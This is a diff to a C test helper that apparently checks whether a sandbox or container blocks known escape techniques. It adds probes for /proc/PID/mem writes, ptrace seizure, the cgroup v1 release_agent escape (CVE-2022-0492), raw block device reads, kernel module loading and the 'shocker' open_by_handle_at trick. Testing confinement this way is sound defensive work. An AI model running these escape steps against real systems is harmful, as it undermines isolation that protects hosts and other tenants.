@@ -9,6 +9,17 @@
  *                            nothing) or an empty tmpfs where nothing can be made
  *   attack ro PATH           "ro PATH yes|no|absent": on a read-only mount
  *   attack cwd               "cwd <getcwd() or errno name>"
+ *   attack mem PID           "mem PID ok|<errno name>": writes one byte of the
+ *                            first writable mapping of PID's memory through
+ *                            /proc/PID/mem, the byte that is already there
+ *   attack ptrace PID        "ptrace PID ok|<errno name>": seizes PID, detaches
+ *   attack cgroup1 DIR       "cgroup1 DIR ok|<errno name>": mounts a cgroup v1
+ *                            hierarchy at DIR (CVE-2022-0492), then, if that
+ *                            worked, "release_agent ok|<errno name>"
+ *   attack blockdev PATH MAJ:MIN  "mknod PATH ok|..." then "readblk PATH ok|..."
+ *   attack module PATH       "finit_module ..." and "init_module ..." (PATH: any file)
+ *   attack shocker           "open_by_handle_at ok|<errno name>": the root
+ *                            inode of the filesystem of / by handle
  */
 #define _GNU_SOURCE
 #include <dirent.h>
@@ -16,8 +27,11 @@
 #include <fcntl.h>
 #include <linux/magic.h>
 #include <stdio.h>
+#include <stdlib.h>
 #include <string.h>
 #include <sys/mount.h>
+#include <sys/ptrace.h>
+#include <sys/syscall.h>
 #include <sys/stat.h>
 #include <sys/statfs.h>
 #include <sys/statvfs.h>
@@ -111,6 +125,120 @@ static int cwd(void)
 	return 0;
 }
 
+/* The first writable private mapping's start, from /proc/PID/maps. */
+static int writable_addr(const char *pid, unsigned long *ret)
+{
+	char path[64], line[512];
+	snprintf(path, sizeof(path), "/proc/%s/maps", pid);
+	FILE *f = fopen(path, "re");
+	if (!f)
+		return -1;
+	int found = -1;
+	while (found < 0 && fgets(line, sizeof(line), f)) {
+		unsigned long lo, hi;
+		char perms[8];
+		if (sscanf(line, "%lx-%lx %7s", &lo, &hi, perms) == 3 && perms[1] == 'w') {
+			*ret = lo;
+			found = 0;
+		}
+	}
+	fclose(f);
+	if (found < 0)
+		errno = ENOENT;
+	return found;
+}
+
+static int mem(const char *pid)
+{
+	char path[64];
+	unsigned long addr = 0;
+	char c;
+	snprintf(path, sizeof(path), "/proc/%s/mem", pid);
+	/* the open for writing is the attack; the maps are only where to aim */
+	int fd = open(path, O_RDWR | O_CLOEXEC);
+	if (fd < 0)
+		return report("mem", pid, 0);
+	int ok = writable_addr(pid, &addr) == 0 && pread(fd, &c, 1, (off_t)addr) == 1 &&
+		 pwrite(fd, &c, 1, (off_t)addr) == 1;
+	int e = errno;
+	close(fd);
+	errno = e;
+	return report("mem", pid, ok);
+}
+
+static int seize(const char *pid)
+{
+	pid_t p = (pid_t)atoi(pid);
+	if (ptrace(PTRACE_SEIZE, p, NULL, NULL) < 0)
+		return report("ptrace", pid, 0);
+	ptrace(PTRACE_DETACH, p, NULL, NULL);
+	return report("ptrace", pid, 1);
+}
+
+static int cgroup1(const char *dir)
+{
+	mkdir(dir, 0700);
+	if (mount("cgroup", dir, "cgroup", 0, "none,name=recap-escape") < 0)
+		return report("cgroup1", dir, 0);
+	report("cgroup1", dir, 1);
+	char ra[4200];
+	snprintf(ra, sizeof(ra), "%s/release_agent", dir);
+	int fd = open(ra, O_WRONLY | O_CLOEXEC);
+	int ok = fd >= 0 && write(fd, "/recap-escape-agent", 19) == 19;
+	int e = errno;
+	if (fd >= 0)
+		close(fd);
+	umount2(dir, MNT_DETACH);
+	errno = e;
+	return report("release_agent", dir, ok);
+}
+
+static int blockdev(const char *path, const char *majmin)
+{
+	unsigned maj, min;
+	char buf[512];
+	if (sscanf(majmin, "%u:%u", &maj, &min) != 2)
+		return 2;
+	report("mknod", path, mknod(path, S_IFBLK | 0600, makedev(maj, min)) == 0);
+	int fd = open(path, O_RDONLY | O_CLOEXEC);
+	int ok = fd >= 0 && read(fd, buf, sizeof(buf)) == (ssize_t)sizeof(buf);
+	int e = errno;
+	if (fd >= 0)
+		close(fd);
+	errno = e;
+	return report("readblk", path, ok);
+}
+
+static int module(const char *path)
+{
+	int fd = open(path, O_RDONLY | O_CLOEXEC);
+	report("finit_module", path, syscall(SYS_finit_module, fd, "", 0) == 0);
+	if (fd >= 0)
+		close(fd);
+	static char image[64];
+	return report("init_module", path, syscall(SYS_init_module, image, sizeof(image), "") == 0);
+}
+
+/* The shocker exploit's move: a handle built by hand, not obtained. */
+static int shocker(void)
+{
+	struct {
+		struct file_handle h;
+		unsigned char ino[8];
+	} fh = {.h = {.handle_bytes = 8, .handle_type = 1}};
+	unsigned root_ino = 2;
+	memcpy(fh.ino, &root_ino, sizeof(root_ino));
+	int mfd = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
+	int fd = (int)syscall(SYS_open_by_handle_at, mfd, &fh.h, O_RDONLY);
+	int e = errno;
+	if (fd >= 0)
+		close(fd);
+	if (mfd >= 0)
+		close(mfd);
+	errno = e;
+	return report("open_by_handle_at", "/", fd >= 0);
+}
+
 int main(int argc, char **argv)
 {
 	const char *verb = argc >= 2 ? argv[1] : "";
@@ -129,6 +257,19 @@ int main(int argc, char **argv)
 		return readonly(path);
 	if (strcmp(verb, "cwd") == 0)
 		return cwd();
-	fprintf(stderr, "usage: attack write|openw|umount|remount-rw|masked|ro PATH [DATA] | cwd\n");
+	if (strcmp(verb, "mem") == 0 && argc == 3)
+		return mem(path);
+	if (strcmp(verb, "ptrace") == 0 && argc == 3)
+		return seize(path);
+	if (strcmp(verb, "cgroup1") == 0 && argc == 3)
+		return cgroup1(path);
+	if (strcmp(verb, "blockdev") == 0 && argc == 4)
+		return blockdev(path, argv[3]);
+	if (strcmp(verb, "module") == 0 && argc == 3)
+		return module(path);
+	if (strcmp(verb, "shocker") == 0)
+		return shocker();
+	fprintf(stderr, "usage: attack write|openw|umount|remount-rw|masked|ro PATH [DATA] | cwd | "
+			"mem|ptrace PID | cgroup1 DIR | blockdev PATH MAJ:MIN | module PATH | shocker\n");
 	return 2;
 }
